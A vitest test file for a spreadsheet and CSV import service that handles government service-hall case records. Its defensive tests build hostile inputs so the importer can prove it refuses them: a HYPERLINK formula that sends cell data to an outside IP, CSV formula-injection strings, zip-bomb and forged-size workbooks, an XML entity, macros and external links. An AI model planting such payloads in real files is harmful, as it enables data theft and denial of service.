import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { callsOf, refusal } from '../../tests/support/calls.ts'
import { caseHeads, caseRow, type ImportSeen, importsOf, toCsv } from '../../tests/support/import.ts'
import { startPlatform, type TestPlatform } from '../../tests/support/platform.ts'
import { rawWorkbook, sheetXml, workbook } from '../../tests/support/workbook.ts'
import { run } from '../run.ts'

let platform: TestPlatform
let imports: ReturnType<typeof importsOf>
beforeAll(async () => {
  platform = await startPlatform()
  imports = importsOf(platform)
})
afterAll(() => platform.stop())

const rowCount = Number(process.env.IMPORT_ROWS ?? 5000)
const count = async (text: string) =>
  Number((await platform.database.query<{ n: string }>(`select count(*) as n from ${text}`))[0]?.n)
const megabytes = (bytes: number) => Math.round(bytes / 1_048_576)
const csv = 'text/csv'
const range = (from: number, to: number) => Array.from({ length: to - from }, (_, index) => from + index)

/** The largest the process becomes while something goes on, beyond what it was. */
async function growthOf(act: () => Promise<void>): Promise<{ beforeMb: number; growthMb: number }> {
  globalThis.gc?.()
  const before = process.memoryUsage().rss
  let peak = before
  const watch = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss)
  }, 5)
  await act()
  clearInterval(watch)
  return { beforeMb: megabytes(before), growthMb: megabytes(peak - before) }
}

describe(`a workbook of ${rowCount} cases with 1 % bad rows`, () => {
  const isBad = (number: number) => number % 100 === 7
  const bend = (number: number): Record<string, string> => {
    if (!isBad(number)) return {}
    const bends = [
      { 窗口编号: 'NONE' },
      { 办理状态: '在办' },
      { 事项编码: '123' },
      { 服务结束时间: '昨天' },
      { 大厅编码: '' },
    ]
    return bends[Math.floor(number / 100) % bends.length] ?? {}
  }
  const badCount = range(1, rowCount + 1).filter(isBad).length
  let seen: ImportSeen
  const percents: number[] = []

  test('is taken with the right counts, tells its progress, and stays within its memory', async () => {
    const file = await workbook(range(1, rowCount + 1).map((number) => caseRow(number, bend(number))))
    const started = performance.now()
    const { beforeMb, growthMb } = await growthOf(async () => {
      seen = await imports.run('CASES/GOOD_ROWS', file, { watch: ({ percent }) => percents.push(percent) })
    })
    const seconds = (performance.now() - started) / 1000
    console.log(
      `import: ${rowCount} cases, ${file.length} bytes, ${seconds.toFixed(1)} s, ${Math.round(rowCount / seconds)} rows/s, ` +
        `RSS ${beforeMb} MB before, +${growthMb} MB at its peak, ${new Set(percents).size} steps of progress seen`,
    )
    expect(seen).toMatchObject({ state: 'DONE', percent: 100, rowsExpected: rowCount, rowsRead: rowCount })
    expect([seen.rowsKept, seen.rowsBad]).toEqual([rowCount - badCount, badCount])
    expect(
      await count(`service_case c join service_case_revision r on r.case_id = c.id where r.api_key_id in
      (select api_key_id from import_run)`),
    ).toBeGreaterThanOrEqual(rowCount - badCount)
    expect(percents).toEqual(percents.toSorted((a, b) => a - b))
    expect(new Set(percents).size).toBeGreaterThan(3)
    expect(growthMb).toBeLessThan(350)
  }, 1_200_000)

  test('names each bad row with its number, code and column', () => {
    expect(seen.badRows).toHaveLength(Math.min(100, badCount))
    expect(seen.badRows.slice(0, 5)).toEqual([
      { rowNo: 8, problems: [{ code: 'PLACE_UNKNOWN', column: '窗口编号' }] },
      { rowNo: 108, problems: [{ code: 'CELL_NOT_A_WORD', column: '办理状态' }] },
      { rowNo: 208, problems: [{ code: 'MALFORMED', column: '事项编码' }] },
      { rowNo: 308, problems: [{ code: 'CELL_NOT_A_TIME', column: '服务结束时间' }] },
      { rowNo: 408, problems: [{ code: 'CELL_EMPTY', column: '大厅编码' }] },
    ])
  })

  test('gives them back as a file in Chinese, which mended is taken', async () => {
    const text = (await imports.badRows(seen.id, 'CSV')).bytes.toString('utf8')
    const lines = text.trimEnd().split('\r\n')
    expect(lines).toHaveLength(badCount + 1)
    expect(lines[0]).toMatch(/^\ufeff错误原因,原行号,办件编号,/)
    expect(lines[1]).toMatch(/^【窗口编号】没有这个大厅或窗口,8,IMP-7,/)
    expect((await imports.badRows(seen.id, 'XLSX')).bytes.subarray(0, 2).toString()).toBe('PK')
    const mended = [lines[0], lines[1]?.replace(',NONE,', ',A01,')].join('\r\n')
    expect(await imports.run('CASES/GOOD_ROWS', mended, { type: csv })).toMatchObject({ rowsKept: 1, rowsBad: 0 })
  })

  test('handed in again makes no double', async () => {
    const file = await workbook(range(1, 301).map((number) => caseRow(number, bend(number))))
    const before = [await count('service_case'), await count('service_case_revision')]
    const again = await imports.run('CASES/GOOD_ROWS', file)
    expect(again).toMatchObject({ rowsKept: 297, rowsUnchanged: 297, rowsBad: 3 })
    expect([await count('service_case'), await count('service_case_revision')]).toEqual(before)
  })
})

describe('all or nothing', () => {
  test('one bad row, and nothing is written; mended, everything is', async () => {
    const rows = range(120_001, 120_061).map((number) => caseRow(number))
    const before = await count('service_case')
    const bad = await imports.run('CASES/ALL_OR_NOTHING', toCsv([...rows, caseRow(120_099, { 工号: '9999' })]), {
      type: csv,
    })
    expect(bad).toMatchObject({ state: 'DONE', rowsKept: 0, rowsBad: 1, rowsRead: 61 })
    expect(bad.badRows[0]?.problems).toEqual([{ code: 'STAFF_UNKNOWN', column: '工号' }])
    expect(await count('service_case')).toBe(before)
    expect(await imports.run('CASES/ALL_OR_NOTHING', toCsv(rows), { type: csv })).toMatchObject({
      rowsKept: 60,
      rowsBad: 0,
    })
    expect(await count('service_case')).toBe(before + 60)
  })
})

describe('an entry of the catalogue', () => {
  const heads = '大厅编码,窗口编号,窗口名称,窗口类别,状态,生效日期'
  const named = async (code: string) => count(`service_window where window_code = '${code}'`)

  test('has one row in a file: rows that contradict each other leave nothing behind where it is all or nothing', async () => {
    const rows = ['YP-TRIAL-01,Q01,甲,综合窗口,启用,2127-01-01', 'YP-TRIAL-01,Q01,乙,综合窗口,启用,2020-01-01']
    const seen = await imports.run('WINDOWS/ALL_OR_NOTHING', [heads, ...rows].join('\r\n'), { type: csv })
    expect(seen).toMatchObject({ state: 'DONE', rowsKept: 0, rowsBad: 1, rowsRead: 2 })
    expect(seen.badRows).toEqual([{ rowNo: 3, problems: [{ code: 'ENTRY_REPEATED', column: '窗口编号' }] }])
    expect(await named('Q01')).toBe(0)
  })

  test('is what its whole key names: neighbours of another number are taken', async () => {
    const rows = [
      'YP-TRIAL-01,Q02,甲,综合窗口,启用,',
      'YP-TRIAL-01,Q03,乙,综合窗口,启用,',
      ' YP-TRIAL-01,Q02 ,丙,综合窗口,启用,',
    ]
    const seen = await imports.run('WINDOWS/GOOD_ROWS', [heads, ...rows].join('\r\n'), { type: csv })
    expect(seen).toMatchObject({ rowsKept: 2, rowsBad: 1 })
    expect(seen.badRows[0]?.problems[0]?.code).toBe('ENTRY_REPEATED')
  })

  test('is of a kind that has a word of its own, not one that every object has', async () => {
    const rows = ['constructor', '__proto__', 'toString'].map(
      (kind, index) => `YP-TRIAL-01,Q1${index},甲,${kind},启用,`,
    )
    const seen = await imports.run('WINDOWS/GOOD_ROWS', [heads, ...rows].join('\r\n'), { type: csv })
    expect(seen.badRows.map(({ problems }) => problems)).toEqual(
      rows.map(() => [{ code: 'CELL_NOT_A_WORD', column: '窗口类别' }]),
    )
  })
})

describe('the rows of one case', () => {
  test('stand together and are one report; apart or different they are refused', async () => {
    const second = { 第几次服务: '2', 服务名称: '签收' }
    const rows = [
      caseRow(130_001),
      caseRow(130_001, {
        ...second,
        事项编码: '',
        办件类型: '',
        办理状态: '',
        办件渠道: '',
        申请人类型: '',
        行政区划代码: '',
        受理时间: '',
      }),
      caseRow(130_002),
      caseRow(130_002, { ...second, 办件类型: '即办件' }),
      caseRow(130_003),
      caseRow(130_001, { 第几次服务: '3' }),
      caseRow(130_004),
      caseRow(130_004),
    ]
    const seen = await imports.run('CASES/GOOD_ROWS', toCsv(rows), { type: csv })
    expect(seen).toMatchObject({ rowsKept: 3, rowsBad: 5 })
    expect(seen.badRows.map(({ rowNo, problems }) => [rowNo, problems[0]?.code])).toEqual([
      [4, undefined],
      [5, 'CASE_ROWS_DIFFER'],
      [7, 'CASE_ROWS_APART'],
      [8, undefined],
      [9, 'SEQUENCE_REPEATED'],
    ])
    const [kept] = await platform.database.query<{ n: number }>(
      `select count(*)::int as n from service_occurrence where sequence = 2 and service = 'COLLECTION' and ended_at < '2026-02-01'`,
    )
    expect(kept?.n).toBe(1)
  })
})

describe('files as clerks and their programs write them', () => {
  test('CSV in GB18030', async () => {
    // 办件编号 … cannot be encoded by Node: these are the bytes of the heads and one row, made by iconv.
    const file = Buffer.from('c6f4d3c3', 'hex')
    expect(new TextDecoder('gb18030').decode(file)).toBe('启用')
    const line = (parts: readonly (string | Buffer)[]) =>
      Buffer.concat(parts.map((part) => Buffer.from(part as string)))
    const heads = line([
      Buffer.from('b4f3ccfcb1e0c2eb', 'hex'),
      ',',
      Buffer.from('b4b0bfdab1e0bac5', 'hex'),
      ',',
      Buffer.from('b4b0bfdac3fbb3c6', 'hex'),
      ',',
      Buffer.from('b4b0bfdac0e0b1f0', 'hex'),
      '\r\n',
      'YP-TRIAL-01,G01,',
      Buffer.from('d7dbbacfb4b0bfda', 'hex'),
      ',',
      Buffer.from('d7dbbacfb4b0bfda', 'hex'),
      '\r\n',
    ])
    expect(await imports.run('WINDOWS/GOOD_ROWS', heads, { type: csv })).toMatchObject({ rowsKept: 1, rowsBad: 0 })
    const [row] = await platform.database.query<{ name: string }>(
      `select v.name from service_window w join service_window_version v on v.window_id = w.id where w.window_code = 'G01'`,
    )
    expect(row?.name).toBe('综合窗口')
  })

  test('shared texts, rich text, numbers for texts, dates as numbers, prefixes', async () => {
    const bent = caseRow(140_001)
    const at = (head: string) => caseHeads.indexOf(head)
    bent[at('办件编号')] = '<c t="s"><v>0</v></c>'
    bent[at('工号')] = '<c><v>1001</v></c>'
    bent[at('服务结束时间')] = '<c><v>46027.397222222222</v></c>'
    const strings = '<sst><si><r><t>IMP-</t></r><r><t>SHARED</t></r><rPh><t>x</t></rPh></si></sst>'
    const file = await rawWorkbook(sheetXml([bent]), [{ name: 'xl/sharedStrings.xml', text: [strings] }])
    const seen = await imports.run('CASES/GOOD_ROWS', file)
    expect([seen.rowsKept, seen.badRows]).toEqual([1, []])
    const [row] = await platform.database.query<{ ended: Date }>(
      `select ended_at as ended from service_occurrence o join service_case c on c.id = o.case_id order by c.recorded_at desc limit 1`,
    )
    expect(row?.ended.toISOString()).toBe('2026-01-05T01:32:00.000Z')
  })

  test('an identity number that a spreadsheet has rounded is refused, not guessed', async () => {
    const bent = caseRow(140_002)
    bent[caseHeads.indexOf('申请人姓名或名称')] = '<c><v>1.10105194912310E+17</v></c>'
    const seen = await imports.run('CASES/GOOD_ROWS', await rawWorkbook(sheetXml([bent])))
    expect(seen.badRows[0]?.problems).toEqual([{ code: 'CELL_NUMBER_ROUNDED', column: '申请人姓名或名称' }])
  })

  test.each([
    'DIVISIONS',
    'ORGANIZATIONS',
    'HALLS',
    'HALL_HOURS',
    'WINDOWS',
    'WINDOW_HOURS',
    'STAFF',
    'ITEMS',
    'ITEM_VARIANTS',
    'ITEM_GUIDES',
    'WINDOW_ITEMS',
    'CASES',
  ])('the template of %s is there in both formats, with its example, which is not imported', async (kind) => {
    for (const [format, type] of [
      ['XLSX', undefined],
      ['CSV', csv],
    ] as const) {
      const answer = await fetch(`${platform.base}/api/v1/import-templates/${kind}?format=${format}`)
      expect(answer.status).toBe(200)
      const file = Buffer.from(await answer.arrayBuffer())
      const seen = await imports.run(`${kind}/GOOD_ROWS`, file, type === undefined ? {} : { type })
      expect(seen.problem).toEqual({ code: 'FILE_EMPTY', columnNo: null })
    }
  })
})

describe('what would be run, followed or blown up', () => {
  test('a formula is refused in its cell, whatever value stands beside it', async () => {
    const bent = caseRow(150_001)
    bent[caseHeads.indexOf('申请人姓名或名称')] =
      '<c t="str"><f>HYPERLINK("http://198.51.100.1/"&amp;A2)</f><v>甄公式</v></c>'
    const seen = await imports.run('CASES/GOOD_ROWS', await rawWorkbook(sheetXml([bent, caseRow(150_002)])))
    expect(seen).toMatchObject({ rowsKept: 1, rowsBad: 1 })
    expect(seen.badRows[0]?.problems).toEqual([{ code: 'CELL_IS_FORMULA', column: '申请人姓名或名称' }])
  })

  test('a text that a spreadsheet would take for a formula goes out led in by an apostrophe, and comes in again without it', async () => {
    const rows = [caseRow(150_010, { 申请人姓名或名称: '=1+1', 申请人手机号: '+8615400000001', 窗口编号: 'NONE' })]
    const seen = await imports.run('CASES/GOOD_ROWS', toCsv(rows), { type: csv })
    const text = (await imports.badRows(seen.id, 'CSV')).bytes.toString('utf8')
    expect(text).toContain(",'=1+1,")
    expect(text).toContain(",'+8615400000001,")
    const again = await imports.run('CASES/GOOD_ROWS', text.replace(',NONE,', ',A01,'), { type: csv })
    expect(again).toMatchObject({ rowsKept: 1 })
    const direct = await imports.run('CASES/GOOD_ROWS', toCsv(rows).replace(',NONE,', ',A01,'), { type: csv })
    expect(direct).toMatchObject({ rowsKept: 1, rowsUnchanged: 1 })
  })

  test.each(['＝1+1', ' =1+1', '＠SUM(1)', '\n-1'])('also %j, in full width or behind spaces', async (name) => {
    const seen = await imports.run(
      'CASES/GOOD_ROWS',
      toCsv([caseRow(150_020, { 申请人姓名或名称: name, 窗口编号: 'NONE' })]),
      { type: csv },
    )
    const file = (await imports.badRows(seen.id, 'CSV')).bytes
    expect(file.toString('utf8')).toContain(`'${name}`)
    const again = await imports.run('CASES/GOOD_ROWS', file, { type: csv })
    expect((await imports.badRows(again.id, 'CSV')).bytes.equals(file)).toBe(true)
  })

  const spaces = ' '.repeat(1_048_576)
  const bombs: [string, string, () => Promise<Buffer>][] = [
    [
      'a sheet that becomes a thousand times larger',
      'FILE_EXPANDS',
      () => rawWorkbook(Array.from({ length: 300 }, () => spaces)),
    ],
    [
      'shared texts that become a thousand times larger',
      'FILE_EXPANDS',
      () =>
        rawWorkbook(sheetXml([]), [
          {
            name: 'xl/sharedStrings.xml',
            text: ['<sst><si><t>', ...Array.from({ length: 100 }, () => spaces), '</t></si></sst>'],
          },
        ]),
    ],
    [
      'a directory that lies about sizes',
      'FILE_EXPANDS',
      async () => lieAboutSizes(await rawWorkbook(Array.from({ length: 60 }, () => spaces))),
    ],
    [
      'too many parts',
      'FILE_EXPANDS',
      () =>
        rawWorkbook(
          '',
          range(0, 300).map((index) => ({ name: `xl/media/${index}`, text: ['x'] })),
        ),
    ],
    ['entities of its own', 'FILE_BROKEN', () => rawWorkbook('<!DOCTYPE a [<!ENTITY b "c">]>&b;')],
    ['macros', 'FILE_HAS_MACROS', () => rawWorkbook(sheetXml([]), [{ name: 'xl/vbaProject.bin', text: ['x'] }])],
    [
      'links to other files',
      'FILE_HAS_LINKS',
      () => rawWorkbook(sheetXml([]), [{ name: 'xl/externalLinks/externalLink1.xml', text: ['<a/>'] }]),
    ],
    [
      'a workbook with a password, or of the old kind',
      'FILE_PROTECTED',
      () => Promise.resolve(Buffer.from('d0cf11e0a1b11ae1'.padEnd(1024, '0'), 'hex')),
    ],
    ['half a workbook', 'FILE_BROKEN', async () => (await workbook([caseRow(1)])).subarray(0, 900)],
    ['nothing but heads', 'FILE_EMPTY', () => workbook([])],
    ['no bytes at all', 'FILE_BROKEN', () => Promise.resolve(Buffer.alloc(0))],
    ['a column that nobody knows', 'COLUMN_UNKNOWN', () => workbook([['x']], ['秘密列'])],
    ['a column that is missing', 'COLUMN_MISSING', () => workbook([['x']], ['办件编号'])],
    ['a column twice', 'COLUMN_REPEATED', () => workbook([['x', 'y']], ['办件编号', '办件编号'])],
  ]
  test.each(bombs)('%s: %s', async (_, code, make) => {
    const file = await make()
    let seen: ImportSeen | undefined
    const { growthMb } = await growthOf(async () => {
      seen = await imports.run('CASES/GOOD_ROWS', file)
    })
    console.log(`import: ${code} of ${file.length} bytes, RSS +${growthMb} MB at its peak`)
    expect([seen?.state, seen?.problem?.code]).toEqual(['REFUSED', code])
    expect(growthMb).toBeLessThan(150)
  })

  /** Says 100 bytes in the directory of what becomes 60 MB. */
  function lieAboutSizes(file: Buffer): Buffer {
    const lying = Buffer.from(file)
    for (
      let at = lying.indexOf('PK\u0001\u0002', 0, 'latin1');
      at !== -1;
      at = lying.indexOf('PK\u0001\u0002', at + 1, 'latin1')
    )
      if (lying.readUInt32LE(at + 24) > 1_000_000) lying.writeUInt32LE(100, at + 24)
    return lying
  }
})

describe('who hands a file in', () => {
  test('needs the scope of importing and of what the rows write', async () => {
    const calls = callsOf(platform)
    const file = toCsv([caseRow(160_001)])
    const withScopes = async (scopes: readonly string[]) =>
      importsOf(platform, (await calls.apiKey({ scopes: scopes as never })).key).start('CASES/GOOD_ROWS', file, {
        type: csv,
      })
    expect(refusal(await withScopes(['cases:write']))).toBe('403 FORBIDDEN')
    expect(refusal(await withScopes(['imports:run', 'catalogue:write']))).toBe('403 FORBIDDEN /kind')
    expect(refusal(await importsOf(platform, 'nobody').start('CASES/GOOD_ROWS', file, { type: csv }))).toBe(
      '401 UNAUTHENTICATED',
    )
  })

  test('writes nothing outside the places of the key', async () => {
    const { key } = await callsOf(platform).apiKey({
      scopes: ['imports:run', 'cases:write'] as never,
      hallCode: 'YP-TRIAL-01',
    })
    const seen = await importsOf(platform, key).run('CASES/GOOD_ROWS', toCsv([caseRow(160_002)]), { type: csv })
    expect(seen).toMatchObject({ rowsKept: 1 })
    expect((await imports.see(seen.id)).status).toBe(404)
    expect((await imports.badRows(seen.id, 'CSV')).status).toBe(404)
  })

  test('a repeated upload is the same import; another file under its key is refused', async () => {
    const file = toCsv([caseRow(160_003)])
    const first = await imports.start('CASES/GOOD_ROWS', file, { type: csv, key: 'the-same-upload' })
    const second = await imports.start('CASES/GOOD_ROWS', file, { type: csv, key: 'the-same-upload' })
    expect([first.status, second.status, second.body.id]).toEqual([202, 200, first.body.id])
    expect(second.headers.get('idempotency-replayed')).toBe('true')
    const other = await imports.start('CASES/GOOD_ROWS', `${file}\r\n`, { type: csv, key: 'the-same-upload' })
    expect(refusal(other)).toBe('409 IDEMPOTENCY_MISMATCH')
  })

  test('is refused a file that is too large or of another kind', async () => {
    expect(refusal(await imports.start('CASES/GOOD_ROWS', '{}', { type: 'application/json' }))).toBe(
      '415 UNSUPPORTED_MEDIA_TYPE',
    )
    expect(refusal(await imports.start('CASES/GOOD_ROWS', Buffer.alloc(20 * 1_048_576 + 1), { type: csv }))).toBe(
      '413 BODY_TOO_LARGE',
    )
    expect(refusal(await imports.start('PEOPLE/GOOD_ROWS', 'x', { type: csv }))).toMatch(/^400 MALFORMED/)
  })
})

test('an import that was interrupted goes on where it was, and makes no double', async () => {
  const first = await startPlatform()
  const { key } = await callsOf(first).apiKey({ scopes: ['imports:run', 'cases:write'] as never })
  const file = toCsv(range(1, 601).map((number) => caseRow(number)))
  const { body } = await importsOf(first, key).start('CASES/GOOD_ROWS', file, { type: csv })
  await expect
    .poll(async () => (await importsOf(first, key).see(body.id)).body.rowsRead, { interval: 10, timeout: 30_000 })
    .toBeGreaterThan(0)
  await first.running.stop()
  const again = await run({
    databaseUrl: first.database.serverUrl,
    keyDir: join(first.folder, 'keys'),
    host: '127.0.0.1',
    port: 0,
    tls: null,
    trustedProxies: [],
    logLevel: 'error',
    intakeConnections: 1,
    appConnections: 4,
    intakeQueueMax: 100,
    importMegabytesMax: 1,
    facesFolder: null,
    version: '0.0.0-test',
    publicUrl: (port) => `http://127.0.0.1:${port}`,
  })
  const second = importsOf({ ...first, base: `http://127.0.0.1:${again.port}` }, key)
  await expect.poll(async () => (await second.see(body.id)).body.state, { timeout: 160_000 }).toBe('DONE')
  expect((await second.see(body.id)).body).toMatchObject({ rowsRead: 600, rowsKept: 600, rowsBad: 0, timesResumed: 1 })
  const [cases] = await first.database.query<{ n: number }>(
    `select count(*)::int as n from service_case_revision r join api_key k on k.id = r.api_key_id where k.name = '测试业务系统'`,
  )
  expect(cases?.n).toBe(600)
  await again.stop()
  await first.database.drop()
}, 120_000)

describe('what is kept of a file', () => {
  test('nothing plain while it waits, the pieces gone when it has ended, the bad rows gone after the days of the policy', async () => {
    const secret = '贾明文不可见'
    const seen = await imports.run(
      'CASES/GOOD_ROWS',
      toCsv([caseRow(170_001, { 申请人姓名或名称: secret, 窗口编号: 'NONE' })]),
      { type: csv },
    )
    expect(await count('import_chunk')).toBe(0)
    const dump = await platform.database.query<{ text: string }>(
      `select string_agg(t::text, ' ') as text from (select i::text as t from import_run i union all select b::text from import_bad_row b) as all_rows (t)`,
    )
    const hex = Buffer.from(secret).toString('hex')
    expect(dump[0]?.text).not.toContain(secret)
    expect(dump[0]?.text).not.toContain(hex)
    expect(dump[0]?.text).not.toContain('IMP-70001')
    expect((await imports.badRows(seen.id, 'CSV')).bytes.toString()).toContain(secret)
    const { clearImports } = await import('./index.ts')
    const { world, keys, app } = platform.running
    const later = { ...world, now: () => Date.now() + 9 * 86_400_000 }
    await clearImports({ world: later, keys, rules: app.rules })
    expect(await count('import_bad_row')).toBe(0)
    expect((await imports.badRows(seen.id, 'CSV')).status).toBe(404)
  })
})
